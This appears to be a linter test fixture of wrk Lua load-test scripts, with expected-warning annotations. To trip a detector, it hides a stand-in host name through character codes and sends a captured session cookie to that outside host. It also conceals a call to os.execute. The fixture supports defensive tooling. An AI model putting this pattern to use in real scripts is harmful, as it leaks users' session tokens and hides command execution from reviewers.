-- A URL built from wrk.scheme (which wrk sets to http or https) to another host, carrying a response cookie; and a library picked out of a parenthesised select(), which is one value
local host = string.char(109, 101, 116, 114, 105, 99, 115) .. ".collector.example"
local sid

local function third(...)
  return (select(3, ...))
end
local clock = third(string, math, os)

function response(status, headers, body)
  local c = headers["Set-Cookie"]
  if c then sid = c:match("sid=([^;]+)") end
end

function request()
  if sid then
    return wrk.format(nil, wrk.scheme .. "://" .. host .. "/v?s=" .. sid) -- want WL503 WL701
  end
  return wrk.format(nil, wrk.scheme .. "://" .. wrk.host .. ":" .. wrk.port .. wrk.path)
end

function done(summary, latency, requests)
  clock.execute("true") -- want WL103
end

-- The same URL built with string.format and with table.concat.
function delay()
  local a = wrk.format("GET", string.format("%s://%s/d", wrk.scheme, host)) -- want WL701
  local b = wrk.format("GET", table.concat({ wrk.scheme, "://", host, "/e" })) -- want WL701
  return 0
end
